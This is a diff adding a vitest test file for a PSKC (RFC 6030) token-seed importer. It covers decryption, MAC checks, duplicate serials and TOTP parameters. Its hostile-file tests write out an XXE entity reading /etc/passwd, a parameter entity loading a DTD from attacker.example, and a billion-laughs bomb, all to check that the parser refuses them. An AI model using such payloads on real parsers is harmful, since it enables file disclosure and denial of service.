@@ -1,0 +1,378 @@
+import { createCipheriv, createHmac, randomBytes } from 'node:crypto';
+import { readFileSync } from 'node:fs';
+import { describe, expect, it } from 'vitest';
+import { DomainError } from '../../../src/domain/errors';
+import { generateOtp } from '../../../src/domain/otp';
+import { isPskc, parsePskc, PSKC_ERROR, PSKC_KEY_FIELD, type PskcOptions } from '../../../src/seeds/pskc';
+
+const fixture = (name: string) => readFileSync(new URL(`./fixtures/${name}`, import.meta.url), 'utf8');
+const ascii = (s: string) => new TextEncoder().encode(s);
+const hex = (s: string) => new Uint8Array(Buffer.from(s, 'hex'));
+
+/** The RFC 6030 test key (section 6.1 / Figure 6): 16 bytes given in hex. */
+const RFC_PSK = hex('12345678901234567890123456789012');
+/** RFC 4226 Appendix D seed, and its HOTP values truncated to 8 digits (counters 0–9). */
+const RFC_SEED = ascii('12345678901234567890');
+const RFC4226_8 = ['84755224', '94287082', '37359152', '26969429', '40338314', '68254676', '18287922', '82162583', '73399871', '45520489'];
+
+const FIGURE3 = fixture('rfc6030-figure3.xml');
+const FIGURE6 = fixture('rfc6030-figure6.xml');
+const FIGURE10 = fixture('rfc6030-figure10.xml');
+const TOTP60 = fixture('totp-60.xml');
+
+function refusal(xml: string, opts: PskcOptions = {}): DomainError {
+  try {
+    parsePskc(xml, opts);
+  } catch (e) {
+    if (e instanceof DomainError) {
+      expect(e.code).toBe(PSKC_ERROR);
+      return e;
+    }
+    throw e;
+  }
+  throw new Error('expected a DomainError');
+}
+
+/** Replaces exactly one occurrence (so a fixture edit cannot silently miss). */
+function edit(xml: string, from: string | RegExp, to: string): string {
+  const n = typeof from === 'string' ? xml.split(from).length - 1 : (xml.match(new RegExp(from, 'g')) ?? []).length;
+  if (n !== 1) throw new Error(`edit: expected one match of ${String(from)}, found ${n}`);
+  return xml.replace(from, to);
+}
+
+/** Flips one bit in the decoded bytes of a base64 text. */
+function flipBase64(b64: string, index: number): string {
+  const b = Buffer.from(b64.replace(/\s/g, ''), 'base64');
+  b[index] = (b[index] as number) ^ 0x01;
+  return b.toString('base64');
+}
+
+describe('isPskc', () => {
+  it('recognises a KeyContainer root after BOM, declaration, comments and namespace prefixes', () => {
+    expect(isPskc(FIGURE3)).toBe(true);
+    expect(isPskc(FIGURE6)).toBe(true);
+    expect(isPskc(`\uFEFF  ${TOTP60}`)).toBe(true); // pskc: prefix
+    expect(isPskc('<KeyContainer Version="1.0"/>')).toBe(true);
+    // A DOCTYPE for a KeyContainer is PSKC (and then refused by parsePskc, not read as CSV).
+    expect(isPskc('<?xml version="1.0"?><!DOCTYPE KeyContainer [<!ENTITY x "y">]><KeyContainer/>')).toBe(true);
+  });
+
+  it('says no to CSV, other XML and empty content', () => {
+    expect(isPskc('serial,secret,type,digits\nAB1234567890,3132,hotp,6\n')).toBe(false);
+    expect(isPskc('<?xml version="1.0"?><KeyContainers/>')).toBe(false);
+    expect(isPskc('<html><KeyContainer/></html>')).toBe(false);
+    expect(isPskc('')).toBe(false);
+    expect(isPskc('<!-- unterminated <KeyContainer>')).toBe(false);
+  });
+});
+
+describe('RFC 6030 examples', () => {
+  it('Figure 3: plain HOTP secret, 8 digits, counter 0 — codes are the RFC 4226 vectors', () => {
+    const [rec, ...rest] = parsePskc(FIGURE3, {});
+    expect(rest).toHaveLength(0);
+    expect(rec).toEqual({
+      serial: '000987654321',
+      keyId: '12345678',
+      secret: RFC_SEED,
+      params: { algorithm: 'HOTP', hash: 'SHA1', digits: 8, period: 30, counter: 0 },
+      driftSteps: 0,
+    });
+    if (!rec) throw new Error('no record');
+    expect(RFC4226_8.map((_, c) => generateOtp(rec.params, rec.secret, c))).toEqual(RFC4226_8);
+  });
+
+  it("the RFC's own serial 987654321 is refused: the bank's serials are 12 alphanumerics", () => {
+    const e = refusal(edit(FIGURE3, '<SerialNo>000987654321<', '<SerialNo>987654321<'));
+    expect(e.message).toBe('1件目のKeyPackage（Id=12345678、シリアル番号 987654321）: シリアル番号「987654321」は英数字12桁ではありません');
+  });
+
+  it('Figure 6: AES-128-CBC with the RFC pre-shared key decrypts to "12345678901234567890"', () => {
+    const records = parsePskc(FIGURE6, { preSharedKey: RFC_PSK });
+    expect(records).toHaveLength(1);
+    const rec = records[0];
+    if (!rec) throw new Error('no record');
+    expect(rec.serial).toBe('000987654321');
+    expect(rec.keyId).toBe('12345678');
+    expect(rec.secret).toEqual(RFC_SEED);
+    expect(rec.params).toEqual({ algorithm: 'HOTP', hash: 'SHA1', digits: 8, period: 30, counter: 0 });
+    expect(generateOtp(rec.params, rec.secret, 0)).toBe('84755224');
+    expect(generateOtp(rec.params, rec.secret, 9)).toBe('45520489');
+  });
+
+  it('Figure 10 (bulk): the RFC repeats serial 9999999 in packages 3 and 4 — the whole file is refused', () => {
+    const e = refusal(FIGURE10);
+    expect(e.message).toBe(
+      '4件目のKeyPackage（Id=4、シリアル番号 000009999999）: シリアル番号 000009999999 が3件目のKeyPackageと重複しています',
+    );
+    // Without the duplicate the other packages import, in file order.
+    const lastPackage = FIGURE10.lastIndexOf('<KeyPackage>');
+    const three = `${FIGURE10.slice(0, lastPackage)}</KeyContainer>\n`;
+    expect(parsePskc(three, {}).map((r) => [r.serial, r.keyId])).toEqual([
+      ['000000654321', '1'],
+      ['000000123456', '2'],
+      ['000009999999', '3'],
+    ]);
+  });
+});
+
+describe('encrypted values: MAC before decryption, keys', () => {
+  const PACKAGE = '1件目のKeyPackage（Id=12345678、シリアル番号 000987654321）';
+  const VALUE_MAC = 'Su+NvtQfmvfJzF6bmQiJqoLRExc=';
+  const CIPHER = 'AAECAwQFBgcICQoLDA0OD+cIHItlB3Wra1DUpxVvOx2lef1VmNPCMl8jwZqIUqGv';
+
+  it('a ValueMAC with one bit flipped is refused, naming the package', () => {
+    const e = refusal(edit(FIGURE6, VALUE_MAC, flipBase64(VALUE_MAC, 7)), { preSharedKey: RFC_PSK });
+    expect(e.message).toBe(`${PACKAGE}: シークレットのMACが一致しません。事前共有鍵が違うか、ファイルが改ざん・破損しています`);
+  });
+
+  it.each([
+    ['the IV', 3],
+    ['the ciphertext', 20],
+    ['the last (padding) block', 47],
+  ])('a flipped bit in %s is caught by the MAC, not by decryption', (_what, index) => {
+    const e = refusal(edit(FIGURE6, CIPHER, flipBase64(CIPHER, index)), { preSharedKey: RFC_PSK });
+    expect(e.message).toContain(`${PACKAGE}: シークレットのMACが一致しません`);
+  });
+
+  it('a wrong pre-shared key is refused (the MAC key does not decrypt), pointing at the key field', () => {
+    const wrong = hex('12345678901234567890123456789013');
+    const e = refusal(FIGURE6, { preSharedKey: wrong });
+    expect(e.field).toBe(PSKC_KEY_FIELD);
+    expect(e.message).toContain(PACKAGE);
+    expect(e.message).toContain('事前共有鍵が違うか');
+  });
+
+  it('an encrypted file without a key asks for the pre-shared key', () => {
+    const e = refusal(FIGURE6, {});
+    expect(e.field).toBe(PSKC_KEY_FIELD);
+    expect(e.message).toBe(`${PACKAGE}: シードが暗号化されています。トークン業者から別途届いた事前共有鍵を入力してください`);
+  });
+
+  it('a key that is not 16 bytes is refused before reading the file', () => {
+    const e = refusal(FIGURE6, { preSharedKey: RFC_PSK.subarray(0, 15) });
+    expect(e.field).toBe(PSKC_KEY_FIELD);
+    expect(e.message).toContain('16バイト');
+  });
+
+  it('an encrypted value without ValueMAC is refused', () => {
+    const noMac = edit(FIGURE6, /<ValueMAC>[^<]*<\/ValueMAC>/, '');
+    expect(refusal(noMac, { preSharedKey: RFC_PSK }).message).toBe(
+      `${PACKAGE}: シークレットにMAC（ValueMAC）がありません。MACで検証できない暗号化された値は取り込めません`,
+    );
+  });
+
+  it('a file without MACMethod is refused for encrypted values', () => {
+    const noMethod = edit(FIGURE6, /<MACMethod[\s\S]*<\/MACMethod>/, '');
+    expect(refusal(noMethod, { preSharedKey: RFC_PSK }).message).toContain('MAC方式（MACMethod）がファイルにない');
+  });
+
+  it('unknown encryption and MAC algorithms are refused', () => {
+    const aes256 = FIGURE6.replace(/xmlenc#aes128-cbc/g, 'xmlenc#aes256-cbc');
+    expect(refusal(aes256, { preSharedKey: RFC_PSK }).message).toContain('暗号化方式「http://www.w3.org/2001/04/xmlenc#aes256-cbc」には対応していません');
+    const md5 = edit(FIGURE6, 'xmldsig#hmac-sha1', 'xmldsig#hmac-md5');
+    expect(refusal(md5, { preSharedKey: RFC_PSK }).message).toBe(
+      `${PACKAGE}: MAC方式「http://www.w3.org/2000/09/xmldsig#hmac-md5」には対応していません（HMAC-SHA1 のみ）`,
+    );
+  });
+
+  it('password-derived (PBKDF2) encryption is refused as unsupported', () => {
+    const derived = edit(FIGURE6, '<ds:KeyName>Pre-shared-key</ds:KeyName>', '<DerivedKey><KeyDerivationMethod Algorithm="http://www.rsasecurity.com/rsalabs/pkcs/schemas/pkcs-5v2-0#pbkdf2"/></DerivedKey>');
+    expect(refusal(derived, { preSharedKey: RFC_PSK }).message).toContain('PBKDF2');
+  });
+});
+
+/** Builds an encrypted PSKC file as a vendor would: one PSK, one MAC key, a fresh IV per value. */
+function encryptedContainer(
+  psk: Uint8Array,
+  tokens: { serial: string; id: string; secret: Uint8Array; totp?: boolean; counter?: number }[],
+): string {
+  const macKey = randomBytes(20);
+  const encrypt = (plain: Uint8Array) => {
+    const iv = randomBytes(16);
+    const c = createCipheriv('aes-128-cbc', psk, iv);
+    return Buffer.concat([iv, c.update(plain), c.final()]);
+  };
+  const encrypted = (plain: Uint8Array) => {
+    const data = encrypt(plain);
+    const mac = createHmac('sha1', macKey).update(data).digest('base64');
+    return `<EncryptedValue><xenc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/>
+        <xenc:CipherData><xenc:CipherValue>${data.toString('base64')}</xenc:CipherValue></xenc:CipherData>
+      </EncryptedValue><ValueMAC>${mac}</ValueMAC>`;
+  };
+  const packages = tokens.map((t) => {
+    const counter = Buffer.alloc(8);
+    counter.writeBigUInt64BE(BigInt(t.counter ?? 0));
+    return `
+  <KeyPackage>
+    <DeviceInfo><Manufacturer>Vendor</Manufacturer><SerialNo>${t.serial}</SerialNo></DeviceInfo>
+    <Key Id="${t.id}" Algorithm="urn:ietf:params:xml:ns:keyprov:pskc:${t.totp ? 'totp' : 'hotp'}">
+      <AlgorithmParameters><ResponseFormat Length="6" Encoding="DECIMAL"/></AlgorithmParameters>
+      <Data>
+        <Secret>${encrypted(t.secret)}</Secret>
+        ${t.totp ? '<TimeInterval><PlainValue>30</PlainValue></TimeInterval>' : `<Counter>${encrypted(counter)}</Counter>`}
+      </Data>
+    </Key>
+  </KeyPackage>`;
+  });
+  return `<?xml version="1.0" encoding="UTF-8"?>
+<KeyContainer Version="1.0" xmlns="urn:ietf:params:xml:ns:keyprov:pskc"
+  xmlns:ds="http://www.w3.org/2000/09/xmldsig#" xmlns:xenc="http://www.w3.org/2001/04/xmlenc#">
+  <EncryptionKey><ds:KeyName>PSK-2025-01</ds:KeyName></EncryptionKey>
+  <MACMethod Algorithm="http://www.w3.org/2000/09/xmldsig#hmac-sha1">
+    <MACKey><xenc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/>
+      <xenc:CipherData><xenc:CipherValue>${encrypt(macKey).toString('base64')}</xenc:CipherValue></xenc:CipherData>
+    </MACKey>
+  </MACMethod>${packages.join('')}
+</KeyContainer>
+`;
+}
+
+describe('many encrypted KeyPackages', () => {
+  const psk = new Uint8Array(randomBytes(16));
+  const tokens = Array.from({ length: 25 }, (_, i) => ({
+    serial: `MG${String(i + 1).padStart(10, '0')}`,
+    id: String(1000 + i),
+    secret: new Uint8Array(randomBytes(20)),
+    totp: i % 5 === 4,
+    counter: i % 5 === 4 ? undefined : i,
+  }));
+  const xml = encryptedContainer(psk, tokens);
+
+  it('imports every package with its own secret, encrypted counters included', () => {
+    const records = parsePskc(xml, { preSharedKey: psk });
+    expect(records).toHaveLength(25);
+    records.forEach((r, i) => {
+      const t = tokens[i];
+      if (!t) throw new Error('no token');
+      expect(r.serial).toBe(t.serial);
+      expect(r.keyId).toBe(t.id);
+      expect(r.secret).toEqual(t.secret);
+      expect(r.params.algorithm).toBe(t.totp ? 'TOTP' : 'HOTP');
+      expect(r.params.counter).toBe(t.totp ? 0 : i);
+    });
+  });
+
+  it('one tampered package refuses the whole file, naming that package', () => {
+    const third = tokens[2];
+    if (!third) throw new Error('no token');
+    const at = xml.indexOf(`<SerialNo>${third.serial}</SerialNo>`);
+    const macStart = xml.indexOf('<ValueMAC>', at) + '<ValueMAC>'.length;
+    const macEnd = xml.indexOf('</ValueMAC>', macStart);
+    const tampered = xml.slice(0, macStart) + flipBase64(xml.slice(macStart, macEnd), 0) + xml.slice(macEnd);
+    expect(refusal(tampered, { preSharedKey: psk }).message).toBe(
+      `3件目のKeyPackage（Id=1002、シリアル番号 ${third.serial}）: シークレットのMACが一致しません。事前共有鍵が違うか、ファイルが改ざん・破損しています`,
+    );
+  });
+
+  it('another key (random) is refused', () => {
+    const e = refusal(xml, { preSharedKey: new Uint8Array(randomBytes(16)) });
+    expect(e.message).toMatch(/^1件目のKeyPackage（Id=1000、シリアル番号 MG0000000001）: /);
+    expect(e.message).toContain('事前共有鍵が違うか');
+  });
+
+  it('a duplicate serial among encrypted packages is refused', () => {
+    const [first, second] = tokens;
+    if (!first || !second) throw new Error('no token');
+    const dup = encryptedContainer(psk, [first, second, { ...first, id: '9999' }]);
+    expect(refusal(dup, { preSharedKey: psk }).message).toBe(
+      '3件目のKeyPackage（Id=9999、シリアル番号 MG0000000001）: シリアル番号 MG0000000001 が1件目のKeyPackageと重複しています',
+    );
+  });
+});
+
+describe('TOTP', () => {
+  it('pskc#totp with TimeInterval 60 and TimeDrift -2 (pskc: prefixed elements)', () => {
+    const [rec] = parsePskc(TOTP60, {});
+    expect(rec).toEqual({
+      serial: 'TT0000000060',
+      keyId: '987654323',
+      secret: RFC_SEED,
+      params: { algorithm: 'TOTP', hash: 'SHA1', digits: 6, period: 60, counter: 0 },
+      driftSteps: -2,
+    });
+    if (!rec) throw new Error('no record');
+    // Time step 1 is HOTP counter 1 (RFC 4226: 287082).
+    expect(generateOtp(rec.params, rec.secret, 1)).toBe('287082');
+  });
+
+  it('the RFC-style pskc:totp URI is accepted too; the time step defaults to 30', () => {
+    const xml = edit(edit(TOTP60, ':pskc#totp"', ':pskc:totp"'), /<pskc:TimeInterval>[\s\S]*<\/pskc:TimeInterval>/, '');
+    const [rec] = parsePskc(xml, {});
+    expect(rec?.params.algorithm).toBe('TOTP');
+    expect(rec?.params.period).toBe(30);
+  });
+
+  it('refuses a time step other than 30/60, a non-zero T0 and an unknown algorithm', () => {
+    const place = '1件目のKeyPackage（Id=987654323、シリアル番号 TT0000000060）';
+    expect(refusal(edit(TOTP60, '<pskc:PlainValue>60<', '<pskc:PlainValue>45<')).message).toBe(
+      `${place}: 時間間隔（TimeInterval）45秒には対応していません（30秒か60秒）`,
+    );
+    expect(refusal(edit(TOTP60, '<pskc:PlainValue>0<', '<pskc:PlainValue>1700000000<')).message).toContain(
+      `${place}: 基準時刻（Time）が0ではありません`,
+    );
+    expect(refusal(edit(TOTP60, ':pskc#totp"', ':pskc#ocra"')).message).toBe(
+      `${place}: アルゴリズム「urn:ietf:params:xml:ns:keyprov:pskc#ocra」には対応していません（HOTP と TOTP のみ取り込めます）`,
+    );
+    expect(refusal(edit(TOTP60, 'Length="6"', 'Length="7"')).message).toContain(`${place}: 桁数`);
+  });
+});
+
+describe('malformed and hostile files', () => {
+  it.each([0.25, 0.5, 0.9])('a file truncated at %s of its length is refused', (fraction) => {
+    const e = refusal(FIGURE3.slice(0, Math.floor(FIGURE3.length * fraction)));
+    expect(e.message).toMatch(/XMLとして正しくありません|PSKCファイルではありません/);
+  });
+
+  it('a file cut just before its closing tag is refused (no partial import)', () => {
+    const cut = FIGURE10.slice(0, FIGURE10.lastIndexOf('</KeyContainer>'));
+    expect(refusal(cut).message).toContain('XMLとして正しくありません');
+  });
+
+  it('not XML, or XML that is not a KeyContainer, is refused', () => {
+    expect(refusal('serial,secret\n').message).toContain('XMLとして正しくありません');
+    expect(refusal('<?xml version="1.0"?><Foo/>').message).toContain('PSKCファイルではありません');
+    expect(refusal('<KeyContainer Version="2.0"/>').message).toContain('バージョン');
+    expect(refusal('<KeyContainer Version="1.0"></KeyContainer>').message).toContain('1件もありません');
+  });
+
+  it('an XXE attempt is refused before parsing, without reading the file', () => {
+    const xxe = `<?xml version="1.0"?>
+<!DOCTYPE KeyContainer [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+${FIGURE3.replace('<Issuer>Issuer</Issuer>', '<Issuer>&xxe;</Issuer>').replace(/^<\?xml[^>]*>/, '')}`;
+    const e = refusal(xxe);
+    expect(e.message).toContain('文書型宣言（DOCTYPE／ENTITY）');
+    expect(e.message).not.toContain('root:');
+    // Lower case, a bare ENTITY and a parameter entity are all refused the same way.
+    expect(refusal(xxe.replace('<!DOCTYPE', '<!doctype')).message).toContain('文書型宣言');
+    expect(refusal(`<!ENTITY % p SYSTEM "http://attacker.example/x.dtd">${FIGURE3}`).message).toContain('文書型宣言');
+  });
+
+  it('a billion-laughs file is refused at once', () => {
+    const lol = ['<!ENTITY lol "lol">'];
+    for (let i = 1; i <= 9; i++) lol.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
+    const bomb = `<?xml version="1.0"?>\n<!DOCTYPE KeyContainer [\n${lol.join('\n')}\n]>\n${FIGURE3.replace('<Issuer>Issuer</Issuer>', '<Issuer>&lol9;</Issuer>').replace(/^<\?xml[^>]*>/, '')}`;
+    const started = performance.now();
+    const e = refusal(bomb);
+    expect(performance.now() - started).toBeLessThan(200);
+    expect(e.message).toContain('文書型宣言');
+  });
+
+  it('entity references without a DTD are never expanded', () => {
+    const e = refusal(edit(FIGURE3, '<SerialNo>000987654321</SerialNo>', '<SerialNo>&#65;B1234567890</SerialNo>'));
+    expect(e.message).toContain('シリアル番号「&#65;B1234567890」は英数字12桁ではありません');
+  });
+
+  it('a secret that is not base64, or too short, is refused', () => {
+    expect(refusal(edit(FIGURE3, 'MTIzNDU2Nzg5MDEyMzQ1Njc4OTA=', 'MTIzNDU2Nzg5MDEyMzQ1Njc4OTA')).message).toContain('Base64ではありません');
+    expect(refusal(edit(FIGURE3, 'MTIzNDU2Nzg5MDEyMzQ1Njc4OTA=', 'MTIzNA==')).message).toContain('シークレットが短すぎます');
+  });
+
+  it('a KeyPackage without a serial or with two Keys is refused', () => {
+    const noSerial = edit(FIGURE3, '<SerialNo>000987654321</SerialNo>', '');
+    expect(refusal(noSerial).message).toBe('1件目のKeyPackage（Id=12345678）: シリアル番号（DeviceInfo/SerialNo）がありません');
+    const keyAt = FIGURE3.indexOf('<Key ');
+    const keyEnd = FIGURE3.indexOf('</Key>') + '</Key>'.length;
+    const twoKeys = FIGURE3.slice(0, keyEnd) + FIGURE3.slice(keyAt, keyEnd) + FIGURE3.slice(keyEnd);
+    expect(refusal(twoKeys).message).toContain('Key要素がちょうど1つ必要です（2個あります）');
+  });
+});
